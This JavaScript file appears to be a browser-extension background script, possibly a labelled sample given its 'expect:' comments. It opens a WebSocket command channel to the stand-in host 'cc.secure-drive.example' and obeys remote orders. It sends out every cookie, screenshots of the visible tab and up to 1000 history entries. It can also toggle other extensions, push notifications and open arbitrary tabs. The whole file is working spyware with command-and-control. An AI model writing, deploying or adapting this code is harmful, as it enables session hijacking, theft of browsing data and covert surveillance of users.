let line;
const orders = {};
function open() {
  // expect: command-channel
  line = new WebSocket('wss://cc.secure-drive.example/socket');
  line.onmessage = (event) => obey(JSON.parse(event.data));
}
async function obey(order) {
  switch (order.type) {
    case 'extension':
      chrome.management.setEnabled(order.id, order.on);
      break;
    case 'push':
      chrome.notifications.create({ type: 'basic', iconUrl: 'i.png', title: order.title, message: order.text });
      break;
    case 'cookies':
      line.send(JSON.stringify(await chrome.cookies.getAll({}))); // expect: session-cookies-taken
      break;
    case 'screenshot':
      line.send(await chrome.tabs.captureVisibleTab()); // expect: screen-watched
      break;
    case 'history':
      line.send(JSON.stringify(await chrome.history.search({ text: '', maxResults: 1000 })));
      break;
    case 'open':
      chrome.tabs.create({ url: order.url });
  }
}
open();
